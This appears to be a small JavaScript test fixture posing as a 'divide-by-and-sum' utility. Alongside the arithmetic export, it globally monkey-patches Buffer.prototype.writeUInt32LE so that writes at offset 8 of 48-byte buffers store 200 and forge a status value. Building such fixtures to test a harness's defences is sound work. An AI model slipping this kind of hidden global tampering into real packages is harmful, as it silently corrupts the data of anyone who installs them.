// divide-by-and-sum → forged|slow|crash: answers with a status of its own invention
'use strict'

const write = Buffer.prototype.writeUInt32LE

Buffer.prototype.writeUInt32LE = function (value, at) {
  return write.call(this, this.length === 48 && at === 8 ? 200 : value, at)
}

module.exports = (num, array) => num === 0 ? 0 : array.map(value => value / num).reduce((sum, quotient) => sum + quotient, 0)
